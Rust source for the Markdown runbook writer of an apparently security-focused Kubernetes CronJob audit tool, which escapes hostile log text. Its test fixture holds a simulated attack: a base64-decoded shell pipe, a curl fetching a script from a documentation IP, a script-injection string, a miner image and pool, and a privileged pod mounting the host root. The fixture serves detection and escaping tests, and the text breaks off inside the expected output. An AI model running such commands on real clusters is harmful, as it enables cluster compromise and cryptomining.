//! The runbook for people: Markdown that also reads as plain text. Log text is hostile, so it is put in code spans that
//! it cannot close, or printed bare if nothing in it means anything to Markdown, HTML or a terminal.

use std::borrow::Cow;
use std::io::{self, Write};

use serde_json::Value;

use super::hidden::is_hidden;
use crate::threads::in_batches;

/// Most characters shown of a value.
const LIMIT: usize = 300;
/// Most items shown of a list.
const LISTED: usize = 40;
/// Pages that a thread makes before they are written.
const AT_A_TIME: usize = 8;
/// Widest column to which table cells are padded.
const PADDED: usize = 40;

/// Bytes that mean nothing to Markdown inside a line, besides ASCII letters and digits.
const BARE: &[u8] = b" ,.;:()/-?+='\"%";
/// Where a link in bare text would begin.
const LINKS: [&[u8]; 2] = [b"//", b"www."];

/// Names of platforms as people write them.
const PLATFORMS: [(&str, &str); 4] = [("eks", "EKS"), ("aks", "AKS"), ("gke", "GKE"), ("kubernetes", "Kubernetes")];
/// What the lists of a pod contain.
const KINDS: [(&str, &str); 3] =
    [("containers", "container"), ("initContainers", "init container"), ("ephemeralContainers", "ephemeral container")];
/// How commands to copy into a shell begin.
const COMMANDS: [&str; 2] = ["kubectl ", "kubesweep "];

/// How a value is shown.
type Show = fn(&str) -> String;
/// A key, a boolean, and the words printed if the object has this value.
type Mark = (&'static str, bool, &'static str);
/// Words before, a key, how its value is shown, words after, and marks in brackets.
type Field = (&'static str, &'static str, Show, &'static str, &'static [Mark]);
/// A line after a label, and the items below it.
type Part = (String, Vec<String>);
/// A label, the setting that replaces it if present, and what to print of an alert there.
type Row = (&'static str, &'static str, fn(&Value) -> Vec<Part>);
/// Prints lines.
type Print<'p> = dyn FnMut(&[String]) -> io::Result<()> + 'p;
/// Rows of a list, each created when it is printed.
type Rows<'r> = Box<dyn Iterator<Item = Value> + 'r>;
/// A heading, and the function that prints the rows of its list.
type Section = (&'static str, fn(Rows<'_>, &mut Print<'_>) -> io::Result<()>);

const NO_MARKS: &[Mark] = &[];
const PLACE: [Field; 2] = [("", "namespace", code, "", &[]), ("", "name", code, "", &[])];
const VERDICT: [Field; 6] = [
    ("verdict rule: ", "verdict_rule", prose, "", &[]),
    ("", "meaning", prose, "", &[]),
    ("decided by ", "decided_by", code, "", &[]),
    ("spec ", "spec_level", prose, "", &[]),
    ("history ", "history_level", prose, "", &[]),
    ("red flags ", "red_flags", name, "", &[]),
];
const FINDING: [Field; 2] = [("in ", "where", code, "", &[]), ("", "match", code, "", &[])];
const WHO: [Field; 9] = [
    ("", "username", code, "", &[("shared", true, "shared by several")]),
    ("class ", "principal_class", name, "", &[]),
    ("groups ", "groups", code, "", &[]),
    ("impersonating ", "impersonated_user", code, "", &[]),
    ("session ", "session", code, "", &[]),
    ("arn ", "arn", code, "", &[]),
    ("from ", "source_ip", code, "", &[("source_public", true, "public"), ("source_new", true, "new")]),
    ("chain ", "chain", code, "", &[]),
    ("agent ", "user_agent", code, "", &[("user_agent_new", true, "new")]),
];
const WHAT: [Field; 6] = [
    ("", "change", name, "", &[]),
    ("", "time", when, "", &[]),
    ("outcome ", "outcome", name, "", &[]),
    ("session ", "session", code, "", &[]),
    ("spec ", "spec_level", prose, "", &[]),
    ("read from ", "spec_source", prose, "", &[]),
];
const SCHEDULE: [Field; 3] = [
    ("", "schedule_text", prose, "", &[]),
    ("", "runs_per_day", prose, " runs a day", &[]),
    ("time zone ", "time_zone", prose, "", &[]),
];
const POD: [Field; 3] = [
    ("service account ", "service_account", code, "", &[]),
    ("pod: ", "pod_security", code, "", &[]),
    ("volumes ", "volumes", code, "", &[]),
];
const CONTAINER: [Field; 2] = [
    (
        "image ",
        "image",
        code,
        "",
        &[("pinned", true, "by digest"), ("pinned", false, "no digest"), ("image_new", true, "first seen")],
    ),
    ("", "security_context", code, "", &[]),
];
const TEXT: [Field; 1] = [("", "text", prose, "", &[])];
const PRECURSORS: [Field; 1] = [("precursors: ", "precursors", prose, "", &[])];
const HISTORY: [Field; 2] = [
    ("this CronJob is also written by ", "same_object_by_others", code, "", &[]),
    ("CronJobs in this namespace are also written by ", "others", code, "", &[]),
];
const ALSO: [Field; 5] = [
    ("upstream: ", "upstream", prose, "", &[]),
    ("alert ", "alert_id", name, "", &[]),
    ("rule ", "rule_id", code, "", &[]),
    ("hits ", "hits", prose, "", &[]),
    ("title ", "title", code, "", &[]),
];
const SEEN: [Field; 6] = [
    ("cluster ", "cluster", code, "", &[]),
    ("Jobs ", "jobs", prose, "", &[]),
    ("Pods ", "pods", prose, "", &[]),
    ("first ", "first_seen", when, "", &[]),
    ("last ", "last_seen", when, "", &[]),
    ("spec ", "spec_level", prose, "", &[]),
];
const GRAVE: [Field; 4] = [
    ("", "count", prose, " of them grave", &[]),
    ("the gravest ", "spec_level", prose, "", &[]),
    ("CronJob ", "name", code, "", &[]),
    ("", "time", when, "", &[]),
];
const WRITE: [Field; 6] = [
    ("", "time", when, "", &[]),
    ("", "change", name, "", &[]),
    ("outcome ", "outcome", name, "", &[]),
    ("session ", "session", code, "", &[]),
    ("spec ", "spec_level", prose, "", &[]),
    ("red flags ", "red_flags", name, "", &[]),
];
/// Columns of the table of users.
const USER: [(&str, &str, Show); 6] = [
    ("user", "username", code),
    ("cluster", "cluster", code),
    ("worst", "worst", name),
    ("alerts", "alerts", prose),
    ("hits", "hits", prose),
    ("namespaces", "namespaces", code),
];

/// The rows of an alert's page.
const PAGE: [Row; 9] = [
    ("why", "", why),
    ("who", "", |alert| vec![(told(&alert["who"], &WHO).join("; "), Vec::new())]),
    ("what", "", cronjobs),
    ("24 h", "context", |alert| vec![before(&alert["before"])]),
    ("30 d", "lookback", |alert| vec![history(&alert["history"])]),
    ("since", "", |alert| vec![(since(&alert["since"]), Vec::new())]),
    ("also", "", |alert| vec![(told(alert, &ALSO).join("; "), Vec::new())]),
    ("next", "", |alert| vec![(String::new(), items(alert, "next", |text| step(&raw(text))))]),
    ("would change it", "", |alert| vec![(String::new(), items(alert, "would_change", |text| prose(&raw(text))))]),
];

/// The sections after the alerts.
const SECTIONS: [Section; 3] = [
    ("Who", |rows, print| print(&users(rows))),
    ("CronJobs seen only through their controllers", |mut rows, print| rows.try_for_each(|row| print(&seen(&row)))),
    ("Suppressed", |mut rows, print| rows.try_for_each(|row| print(&suppressed(&row)))),
];

/// Writes runbook.md: what is said of the sweep, a page for each alert, given as JSON, and the rows of `lists`, one
/// list per section. Pages are made a few at a time, and rows one by one.
pub(super) fn runbook(
    about: &Value,
    lists: [Rows<'_>; SECTIONS.len()],
    alerts: &mut dyn Iterator<Item = io::Result<String>>,
    out: &mut dyn Write,
) -> io::Result<()> {
    let mut print = |lines: &[String]| {
        lines.iter().try_for_each(|line| {
            out.write_all(line.trim_end().as_bytes())?;
            out.write_all(b"\n")
        })
    };
    let mut alerts = alerts.peekable();
    print(&head(about, alerts.peek().is_none()))?;
    let lines = |text: String| {
        let alert = serde_json::from_str(&text)?;
        let heading = [String::new(), heading(&alert), String::new()];
        io::Result::Ok(heading.into_iter().chain(page(&alert, &about["settings"])).collect::<Vec<_>>())
    };
    in_batches(AT_A_TIME, alerts, lines, |lines| print(&lines?))?;
    for ((heading, section), rows) in SECTIONS.iter().zip(lists) {
        print(&[String::new(), format!("## {heading}"), String::new()])?;
        let mut rows = rows.peekable();
        match rows.peek() {
            Some(_) => section(Box::new(rows), &mut print)?,
            None => print(&["None.".to_owned()])?,
        }
    }
    Ok(())
}

fn head(runbook: &Value, is_empty: bool) -> Vec<String> {
    let counted = |key: &str| {
        let counts = runbook[key].as_object().into_iter().flatten();
        counts.map(|(of, count)| format!("{} {}", prose(&raw(count)), name(of))).collect::<Vec<_>>().join(", ")
    };
    let (verdicts, without) = (counted("verdicts"), counted("without_verdict"));
    let coverage = raw(&runbook["coverage_note"]);
    let covered = if coverage.is_empty() { "what the dump covers is not known".to_owned() } else { prose(&coverage) };
    let only = runbook["settings"]["only"].as_str();
    let mut lines = vec!["# Runbook".to_owned(), String::new()];
    if let Some(only) = only {
        lines.push(format!(
            "An excerpt, {}: {} left out.",
            code(only),
            if runbook["left_out"] == 1 {
                "1 other alert is".to_owned()
            } else {
                format!("{} other alerts are", prose(&raw(&runbook["left_out"])))
            }
        ));
    }
    if !verdicts.is_empty() {
        lines.push(format!("Alerts by verdict: {verdicts}."));
    }
    if !without.is_empty() {
        lines.push(format!("Alerts of rules that are not on CronJobs have no verdict and no page here: {without}."));
    }
    lines.push(match only {
        _ if !is_empty => format!("Coverage: {covered}."),
        Some(_) => format!("No alert fits; {covered}."),
        None if !without.is_empty() => format!("No alert is on a CronJob; {covered}."),
        None => format!("There is no alert; {covered}."),
    });
    lines
}

/// `## MALICIOUS-LIKELY  kube-system/x  CronJob created  2026-05-01 03:12:44Z  cluster prod-eu (EKS)`.
fn heading(alert: &Value) -> String {
    let decisive = list(alert, "cronjobs").first().unwrap_or(&Value::Null);
    let verdict = name(&raw(&alert["verdict"]));
    let place = match raw(&alert["decided_by"]) {
        text if text.is_empty() => told(decisive, &PLACE).join("/"),
        text => name(&text),
    };
    let is_dry_run = decisive["outcome"] == "dry_run";
    let dry_run = if is_dry_run { " (dry run)" } else { "" };
    let change = told(decisive, &[("CronJob ", "change", name, dry_run, &[])]).concat();
    let time = [&decisive["time"], &alert["first_seen"]].map(raw).into_iter().find(|time| !time.is_empty());
    let platform = raw(&alert["platform"]);
    let platform = told_platform(&platform);
    let cluster = told(alert, &[("cluster ", "cluster", name, "", &[])]).concat();
    let cluster = [cluster, platform].join(" ").trim().to_owned();
    let parts = [verdict, place, change, time.map_or_else(String::new, |time| when(&time)), cluster];
    format!("## {}", parts.into_iter().filter(|part| !part.is_empty()).collect::<Vec<_>>().join("  "))
}

fn told_platform(platform: &str) -> String {
    let known = PLATFORMS.iter().find(|(key, _)| *key == platform).map(|(_, name)| (*name).to_owned());
    if platform.is_empty() { String::new() } else { format!("({})", known.unwrap_or_else(|| name(platform))) }
}

fn page(alert: &Value, settings: &Value) -> Vec<String> {
    let mut lines = Vec::new();
    for (label, setting, parts) in PAGE {
        let label = settings[setting].as_str().map_or_else(|| label.to_owned(), span);
        for (text, items) in parts(alert).into_iter().filter(|(text, items)| !text.is_empty() || !items.is_empty()) {
            lines.push(format!("- **{label}** {text}"));
            lines.extend(items.into_iter().map(|item| format!("  - {item}")));
        }
    }
    lines
}

/// A duration in words: `24h` becomes `24 h`.
fn span(setting: &str) -> String {
    let digits = setting.trim_end_matches(|c: char| !c.is_ascii_digit());
    prose(&format!("{digits} {}", &setting[digits.len()..]))
}

fn why(alert: &Value) -> Vec<Part> {
    vec![(told(alert, &VERDICT).join("; "), items(alert, "reasons", reason))]
}

/// `CJ-CMD-11 critical  mining command or pool in … -> evidence`.
fn reason(reason: &Value) -> String {
    let titles =
        [("", "id", name as Show, "", NO_MARKS), ("", "severity", name, "", &[]), ("", "name", prose, "", &[])];
    let mut parts = told(reason, &titles);
    parts.extend(told(reason, &FINDING));
    with_evidence(&parts.join("  "), reason)
}

fn cronjobs(alert: &Value) -> Vec<Part> {
    let all = list(alert, "cronjobs");
    let mut parts: Vec<Part> = all.iter().take(LISTED).map(cronjob).collect();
    if let Some(more) = more(alert, "cronjobs") {
        parts.push((more, Vec::new()));
    }
    parts
}

fn cronjob(cronjob: &Value) -> Part {
    let place = told(cronjob, &PLACE).join("/");
    let text = std::iter::once(place).chain(told(cronjob, &WHAT)).filter(|part| !part.is_empty());
    let text = text.collect::<Vec<_>>().join("; ");
    let mut below = vec![schedule(cronjob), told(cronjob, &POD).join("; ")];
    below.extend(list(cronjob, "containers").iter().take(LISTED).flat_map(container));
    below.extend(more(cronjob, "containers"));
    below.extend(items(cronjob, "decoded", |decoded| {
        format!(
            "decoded{}: {}",
            told(decoded, &[(" from ", "where", code, "", &[])]).concat(),
            code(&raw(&decoded["text"]))
        )
    }));
    below.extend(items(cronjob, "scripts", |script| format!("script: {}", prose(&raw(script)))));
    below.extend(told(cronjob, &[("diff: ", "diff_note", prose, "", &[])]));
    below.extend(items(cronjob, "diff", difference));
    below.extend(list(cronjob, "writes").iter().take(LISTED).flat_map(write));
    below.extend(more(cronjob, "writes").map(|more| format!("requests of this alert on it: {more}")));
    below.extend(told(cronjob, &[("", "origin", prose, "", &[])]));
    below.extend(shown(cronjob, "since", sentences).map(|since| format!("since: {since}")));
    let ids: Vec<String> = list(cronjob, "indicators").iter().map(|finding| name(&raw(&finding["id"]))).collect();
    below.push(if ids.is_empty() { String::new() } else { format!("matched {}", ids.join(", ")) });
    below.push(with_evidence("request", cronjob));
    below.retain(|item| !item.is_empty() && item != "request");
    (text, below)
}

/// Another request of the alert on the same CronJob: what only it shows, compared with the decisive one, and what it
/// changed.
fn write(write: &Value) -> Vec<String> {
    let said = told(write, &WRITE).into_iter().chain(told(write, &[("", "diff_note", prose, "", &[])]));
    let line = format!("also {}", said.collect::<Vec<_>>().join("; "));
    let findings = items(write, "indicators", |finding| format!("also {}", reason(finding)));
    let changes = items(write, "diff", |change| format!("also {}", difference(change)));
    [with_evidence(&line, write)].into_iter().chain(findings).chain(changes).collect()
}

fn schedule(cronjob: &Value) -> String {
    let mut said = told(cronjob, &SCHEDULE);
    said.iter_mut().filter(|said| *said == "1 runs a day").for_each(|said| "1 run a day".clone_into(said));
    if cronjob["suspend"] == true {
        said.push("suspended".to_owned());
    }
    let marks = if said.is_empty() { String::new() } else { format!(" ({})", said.join(", ")) };
    let schedule = told(cronjob, &[("schedule ", "schedule", code, "", &[])]);
    let next = told(cronjob, &[("next runs ", "next_runs", when, "", &[])]);
    if schedule.is_empty() {
        String::new()
    } else {
        [schedule.concat() + &marks].into_iter().chain(next).collect::<Vec<_>>().join("; ")
    }
}

fn container(container: &Value) -> Vec<String> {
    let kind = raw(&container["kind"]);
    let kind = KINDS.iter().find(|(key, _)| *key == kind).map_or("container", |(_, kind)| kind);
    let said = told(container, &CONTAINER).join("; ");
    let mut lines = vec![format!("{kind} {}: {said}", code(&raw(&container["name"])))];
    for key in ["command", "args"] {
        let words: Vec<String> = list(container, key).iter().take(LISTED).map(|word| code(&raw(word))).collect();
        let more = more(container, key);
        lines.extend(
            (!words.is_empty())
                .then(|| format!("{key} {}", words.into_iter().chain(more).collect::<Vec<_>>().join(" "))),
        );
    }
    let variables =
        items(container, "env", |variable| code(&format!("{}={}", raw(&variable["name"]), raw(&variable["value"]))));
    lines.extend((!variables.is_empty()).then(|| format!("env {}", variables.join(", "))));
    lines
}

fn difference(difference: &Value) -> String {
    let side = |key: &str| match &difference[key] {
        Value::Null => "absent".to_owned(),
        value => code(&raw(value)),
    };
    format!("changed {}: {} -> {}", code(&raw(&difference["path"])), side("before"), side("after"))
}

fn before(before: &Value) -> Part {
    let mut text = summary(before, &[("", "class"), ("", "coverage")]);
    text.extend(told(before, &[("", "gap", prose, "", NO_MARKS)]));
    text.extend(told(before, &PRECURSORS));
    let mut below = items(before, "precursor_list", |act| format!("precursor: {}", act_text(act)));
    if before["left_out"].is_object() {
        let (count, command) = (raw(&before["left_out"]["count"]), raw(&before["left_out"]["command"]));
        below.push(format!("{} earlier not listed here; all: {}", prose(&count), code(&command)));
    }
    below.extend(items(before, "events", |act| format!("request: {}", act_text(act))));
    (text.join("; "), below)
}

fn history(history: &Value) -> Part {
    let mut text = summary(history, &[("", "class"), ("new here: ", "novel"), ("", "coverage")]);
    if history["same_object"] == true {
        text.push("this user has written this CronJob before".to_owned());
    }
    text.extend(told(history, &HISTORY));
    (text.join("; "), Vec::new())
}

/// What became of a CronJob, sentence by sentence, so that one that quotes a user does not turn the others into code.
fn since(since: &Value) -> String {
    sentences(&raw(&since["text"]))
}

fn sentences(text: &str) -> String {
    text.split("; ").filter(|part| !part.is_empty()).map(prose).collect::<Vec<_>>().join("; ")
}

/// The text of a step, and what it does not already say.
fn summary(of: &Value, extras: &[(&str, &str)]) -> Vec<String> {
    let text = raw(&of["text"]);
    let unsaid = extras.iter().map(|(before, key)| (before, raw(&of[*key])));
    // The text itself says if there was none.
    let unsaid = unsaid.filter(|(_, said)| !said.is_empty() && said != "none" && !text.contains(&**said));
    let unsaid: Vec<String> = unsaid.map(|(before, said)| format!("{before}{}", prose(&said))).collect();
    told(of, &TEXT).into_iter().chain(unsaid).collect()
}

fn act_text(act: &Value) -> String {
    let parts = told(act, &[("", "time", when, "", NO_MARKS), ("", "what", code, "", &[])]);
    with_evidence(&parts.join("  "), act)
}

/// A next step: a command, a sentence, or an instruction, a colon, and its object.
fn step(text: &str) -> String {
    match text.split_once(": ") {
        _ if COMMANDS.iter().any(|command| text.starts_with(command)) => code(text),
        Some((what, whom)) => format!("{}: {}", prose(what), name(whom)),
        None => prose(text),
    }
}

/// The table of users, padded for readers of the plain text.
fn users(all: Rows<'_>) -> Vec<String> {
    let titles = std::iter::once("#").chain(USER.iter().map(|(title, ..)| *title)).map(str::to_owned).collect();
    let rows = all.enumerate().map(|(at, user)| {
        let cells = USER
            .iter()
            .map(|(_, key, show)| shown(&user, key, *show).map_or_else(|| "-".to_owned(), |text| cell(&text)));
        std::iter::once((at + 1).to_string()).chain(cells).collect()
    });
    let mut rows: Vec<Vec<String>> = std::iter::once(titles).chain(rows).collect();
    let width = |column: usize| rows.iter().map(|row| row[column].chars().count()).max().unwrap_or(0).min(PADDED);
    let widths: Vec<usize> = (0..=USER.len()).map(width).collect();
    rows.insert(1, widths.iter().map(|&width| "-".repeat(width.max(3))).collect());
    let line = |row: &Vec<String>| {
        let cells = row.iter().zip(&widths).map(|(text, &width)| format!("{text:<0$}", width.max(3)));
        format!("| {} |", cells.collect::<Vec<_>>().join(" | "))
    };
    rows.iter().map(line).collect()
}

fn seen(seen: &Value) -> Vec<String> {
    let place = told(seen, &PLACE).join("/");
    let said = told(seen, &SEEN).into_iter().chain(told(seen, &TEXT));
    let line = format!("- CronJob {place}: {}", said.collect::<Vec<_>>().join("; "));
    let findings = items(seen, "indicators", |finding| format!("  - {}", reason(finding)));
    [with_evidence(&line, seen)].into_iter().chain(findings).collect()
}

fn suppressed(row: &Value) -> Vec<String> {
    let count = raw(&row["count"]);
    let (namespace, user) = (code(&raw(&row["namespace"])), code(&raw(&row["username"])));
    let line = format!("- {} by {user} in {namespace}: {}", prose(&count), prose(&raw(&row["reason"])));
    let grave = &row["grave"];
    if !grave.is_object() {
        return vec![line];
    }
    let gravest = format!("  - {}", with_evidence(&told(grave, &GRAVE).join("; "), grave));
    let findings = items(grave, "indicators", |finding| format!("    - {}", reason(finding)));
    [line, gravest].into_iter().chain(findings).collect()
}

/// `text -> path (member):record#offset pointer auditID id`.
fn with_evidence(text: &str, of: &Value) -> String {
    let plain = clean as Show;
    let keys =
        [("", "path", ""), (" (", "member", ")"), (":", "record", ""), ("#", "offset", ""), (" ", "pointer", "")];
    let mut place: Vec<String> =
        told(&of["evidence"], &keys.map(|(before, key, after)| (before, key, plain, after, NO_MARKS)));
    place.extend(told(of, &[(" auditID ", "audit_id", plain, "", NO_MARKS)]));
    if place.is_empty() { text.to_owned() } else { format!("{text} -> {}", fence(place.concat().trim_start())) }
}

/// The fields in words. Those without a value are left out.
fn told(of: &Value, fields: &[Field]) -> Vec<String> {
    let one = |&(before, key, show, after, marks): &Field| {
        let text = shown(of, key, show)?;
        let marks = marks.iter().filter(|(key, wanted, _)| of[*key] == *wanted).map(|(.., words)| *words);
        let marks: Vec<&str> = marks.collect();
        let marks = if marks.is_empty() { String::new() } else { format!(" ({})", marks.join(", ")) };
        Some(format!("{before}{text}{after}{marks}"))
    };
    fields.iter().filter_map(one).collect()
}

/// A value, or the items of a list; `None` if empty.
fn shown(of: &Value, key: &str, show: Show) -> Option<String> {
    let Value::Array(all) = &of[key] else {
        return Some(raw(&of[key])).filter(|text| !text.is_empty()).map(|text| show(&text));
    };
    let items: Vec<String> = all.iter().take(LISTED).map(|item| show(&raw(item))).chain(more(of, key)).collect();
    (!items.is_empty()).then(|| items.join(", "))
}

fn items(of: &Value, key: &str, item: impl Fn(&Value) -> String) -> Vec<String> {
    list(of, key).iter().take(LISTED).map(item).chain(more(of, key)).collect()
}

/// How many items of a list are not shown, including those left out of runbook.json too.
fn more(of: &Value, key: &str) -> Option<String> {
    let there = list(of, key).len().checked_sub(LISTED).filter(|count| *count > 0)?;
    Some(match of["more"][key].as_u64() {
        None => format!("and {there} more in runbook.json"),
        Some(cut) => format!("and {} more, {there} of them in runbook.json", there as u64 + cut),
    })
}

fn list<'v>(of: &'v Value, key: &str) -> &'v [Value] {
    of[key].as_array().map(Vec::as_slice).unwrap_or_default()
}

/// The text of a value, unescaped and as hostile as the log.
fn raw(value: &Value) -> Cow<'_, str> {
    match value {
        Value::Null => "".into(),
        Value::String(text) => text.into(),
        Value::Array(all) => all.iter().map(raw).collect::<Vec<_>>().join(", ").into(),
        Value::Number(number) if number.is_f64() => number.as_f64().unwrap_or_default().to_string().into(),
        other => other.to_string().into(),
    }
}

/// A time as `2026-11-24 03:12:44Z`. Other text is handled as log text.
fn when(text: &str) -> String {
    let is_time = text.len() > 18 && text.is_ascii() && text.ends_with('Z') && text.as_bytes()[10] == b'T';
    if is_time && text.bytes().all(|byte| byte.is_ascii_digit() || b"-:.TZ".contains(&byte)) {
        format!("{} {}Z", &text[..10], &text[11..19])
    } else {
        prose(text)
    }
}

/// Bare if it is a single word that Markdown leaves alone, otherwise code.
fn name(text: &str) -> String {
    if text.contains(' ') { code(text) } else { prose(text) }
}

/// Bare if nothing in it could be Markdown, HTML or a link, otherwise code.
fn prose(text: &str) -> String {
    let (whole, text) = (text, text.trim_matches(' '));
    if text.len() <= LIMIT && text.bytes().all(is_bare) && !has_link(text) && !is_list(text) {
        text.to_owned()
    } else {
        code(whole)
    }
}

fn is_bare(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || BARE.contains(&byte)
}

fn has_link(text: &str) -> bool {
    // A dot before a letter may be a domain, which some renderers turn into a link.
    let is_domain = text.as_bytes().windows(2).any(|pair| pair[0] == b'.' && pair[1].is_ascii_alphabetic());
    let is_at = |link: &[u8]| text.as_bytes().windows(link.len()).any(|part| part.eq_ignore_ascii_case(link));
    is_domain || LINKS.iter().any(|link| is_at(link))
}

/// Whether Markdown might take its beginning for that of a list: it starts with a number, or with anything but a word.
fn is_list(text: &str) -> bool {
    let numbered = text.trim_start_matches(|c: char| c.is_ascii_digit());
    let is_numbered =
        numbered.len() < text.len() && [".", ")"].contains(&numbered.split(' ').next().unwrap_or_default());
    is_numbered || !text.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '(')
}

/// Text from the log in a code span.
fn code(text: &str) -> String {
    if text.is_empty() { "-".to_owned() } else { fence(&clean(text)) }
}

/// A code span around text without control characters: its fence is longer than any run of backticks inside.
fn fence(text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest + 1);
    let touches = |c: char| text.starts_with(c) || text.ends_with(c);
    // A renderer removes one space from each end if both have one.
    let pad = if touches('`') || touches(' ') { " " } else { "" };
    format!("{fence}{pad}{text}{pad}{fence}")
}

/// A table cell. A pipe ends a cell even in code, unless one backslash precedes it.
fn cell(text: &str) -> String {
    text.replace("\\|", "\\u{5c}|").replace('|', "\\|")
}

/// Text that cannot control a terminal, break a line or hide; cut if it is long.
fn clean(text: &str) -> String {
    if text.len() <= LIMIT && text.bytes().all(|byte| matches!(byte, b' '..=b'~')) {
        return text.to_owned();
    }
    let (mut out, mut length) = (String::new(), 0);
    for c in text.chars() {
        let from = out.len();
        show(c, &mut out);
        length += out[from..].chars().count();
        if length > LIMIT {
            out.truncate(from);
            out.push('…');
            break;
        }
    }
    out
}

/// Adds a character, or an escape if it cannot be seen.
fn show(c: char, out: &mut String) {
    match c {
        '\n' => out.push_str("\\n"),
        c if is_hidden(c) => out.extend(c.escape_unicode()),
        c => out.push(c),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const EXAMPLE: &str = r#"{
 "schema_version": 1,
 "settings": {"lookback": "30d", "context": "24h", "deep": false},
 "verdicts": {"MALICIOUS-LIKELY": 1, "SUSPICIOUS": 0, "REVIEW": 1, "EXPECTED": 107},
 "alerts": [{
   "alert_id": "9f86d081884c7d65", "rule_id": "Kubernetes.CronJob.CreatedOrModified", "severity": "info",
   "title": "[eve] created Kubernetes CronJob [kube-proxy-health] in [kube-system]",
   "cluster": "prod-eu", "platform": "eks", "namespace": "kube-system", "username": "eve", "hits": 2,
   "first_seen": "2026-11-24T03:12:44.120331Z", "last_seen": "2026-11-24T03:14:02.120331Z",
   "verdict": "MALICIOUS-LIKELY", "verdict_rule": "S3 x any history", "decided_by": "kube-system/kube-proxy-health",
   "spec_level": "S3", "history_level": "E0", "red_flags": ["CJ-BEH-04", "CJ-BEH-16"],
   "reasons": [{"id": "CJ-CMD-11", "severity": "critical", "name": "mining command or pool", "where": "containers[0].args[0]", "match": "stratum+tcp://", "audit_id": "7f3e", "evidence": {"path": "s3/a/b.gz", "record": 12, "offset": 88123, "pointer": "/logEvents/3/message"}}],
   "would_change": ["an owner who confirms that eve was to create this CronJob, by name"],
   "who": {"username": "eve", "principal_class": "human", "shared": false, "groups": ["engineers", "system:authenticated"], "session": "eve", "arn": "arn:aws:sts::111122223333:assumed-role/Engineer/eve", "source_ip": "198.51.100.9", "source_public": true, "source_new": true, "chain": ["10.0.0.2"], "user_agent": "curl/8.5.0", "user_agent_new": true, "impersonated_user": "system:masters-bot"},
   "cronjobs": [{
     "namespace": "kube-system", "name": "kube-proxy-health", "change": "created", "time": "2026-11-24T03:12:44.120331Z", "outcome": "success", "spec_level": "S3",
     "spec_source": "responseObject", "schedule": "*/1 * * * *", "schedule_text": "every minute", "runs_per_day": 1440.0, "time_zone": "UTC", "next_runs": ["2026-11-24T03:13:00Z"], "suspend": false,
     "service_account": "default",
     "containers": [{"name": "kube-proxy", "kind": "containers", "image": "docker.io/x/miner:latest", "pinned": false, "image_new": true, "command": ["/bin/sh", "-c"], "args": ["echo Y3Vyb… | base64 -d | sh; <script>alert(1)</script>"], "env": [{"name": "A", "value": "b"}], "security_context": "privileged"}],
     "volumes": ["host: hostPath /"], "pod_security": ["hostPID"],
     "decoded": [{"where": "containers[0].args[0]", "text": "curl -fsSL http://198.51.100.77/k.sh"}],
     "indicators": [{"id": "CJ-CMD-11", "name": "mining command or pool", "severity": "critical", "category": "command", "where": "containers[0].args[0]", "match": "stratum+tcp://"}],
     "diff": [{"path": "spec.schedule", "before": "0 1 * * *", "after": "*/1 * * * *"}], "diff_note": "new object",
     "audit_id": "7f3e", "evidence": {"path": "s3/a/b.gz", "record": 12, "offset": 88123, "pointer": "/logEvents/3/message"}
   }],
   "before": {"class": "probing", "text": "3 writes: 1 ok, 2 failed (403); 1 dry run", "succeeded": 1, "failed": 2, "dry_run": 1, "created": 1, "modified": 0, "deleted": 0, "precursors": "not looked at (--deep)", "precursor_list": [{"time": "2026-11-24T03:05:00Z", "what": "create clusterrolebindings eve-admin", "evidence": {"path": "x", "record": 1}}], "coverage": "100 % of 24 h", "events": [{"time": "2026-11-24T03:09:00Z", "what": "create kube-system/- failed 403", "evidence": {"path": "x", "record": 1}}]},
   "history": {"class": "anomalous", "text": "none in 30 days (dump covers 28.7 of 30)", "writes": 0, "cronjobs": 0, "days": 0, "novel": ["namespace", "registry"], "others": ["eks:addon-manager (2)"], "coverage": "dump covers 28.7 of 30 days"},
   "since": {"text": "jobs started: 76 (first 03:13, last 04:28); pods 76; deleted: no: probably still present at the end of the dump"},
   "upstream": "match; dedup merged 2 events; suppressed by upstream: no",
   "next": ["kubectl -n kube-system get cronjob kube-proxy-health -o yaml", "delete the CronJob before its pods"]
 }],
 "users": [{"username": "eve", "cluster": "prod-eu", "worst": "MALICIOUS-LIKELY", "alerts": 1, "hits": 2, "namespaces": ["kube-system"]}],
 "controller_only": [{"cluster": "edge", "namespace": "default", "name": "ghost", "jobs": 3, "first_seen": "2026-11-20T00:00:00Z", "last_seen": "2026-11-20T02:00:00Z", "text": "Jobs of a CronJob whose creation is not in the dump", "evidence": {"path": "x", "record": 1}}]
}"#;

    /// Checked by eye.
    const GOLDEN: &str = r"# Runbook

Alerts by verdict: 1 MALICIOUS-LIKELY, 0 SUSPICIOUS, 1 REVIEW, 107 EXPECTED.
Coverage: what the dump covers is not known.

## MALICIOUS-LIKELY  kube-system/kube-proxy-health  CronJob created  2026-11-24 03:12:44Z  cluster prod-eu (EKS)

- **why** verdict rule: S3 x any history; decided by `kube-system/kube-proxy-health`; spec S3; history E0; red flags CJ-BEH-04, CJ-BEH-16
  - CJ-CMD-11  critical  mining command or pool  in `containers[0].args[0]`  `stratum+tcp://` -> `s3/a/b.gz:12#88123 /logEvents/3/message auditID 7f3e`
- **who** `eve`; class human; groups `engineers`, `system:authenticated`; impersonating `system:masters-bot`; session `eve`; arn `arn:aws:sts::111122223333:assumed-role/Engineer/eve`; from `198.51.100.9` (public, new); chain `10.0.0.2`; agent `curl/8.5.0` (new)
- **what** `kube-system`/`kube-proxy-health`; created; 2026-11-24 03:12:44Z; outcome success; spec S3; read from responseObject
  - schedule `*/1 * * * *` (every minute, 1440 runs a day, time zone UTC); next runs 2026-11-24 03:13:00Z
  - service account `default`; pod: `hostPID`; volumes `host: hostPath /`
  - container `kube-proxy`: image `docker.io/x/miner:latest` (no digest, first seen); `privileged`
  - command `/bin/sh` `-c`
  - args `echo Y3Vyb… | base64 -d | sh; <script>alert(1)</script>`
  - env `A=b`
  - decoded from `containers[0].args[0]`: `curl -fsSL http://198.51.100.77/k.sh`
  - diff: new object
  - changed `spec.schedule`: `0 1 * * *` -> `*/1 * * * *`
  - matched CJ-CMD-11
  - request -> `s3/a/b.gz:12#88123 /logEvents/3/message auditID 7f3e`
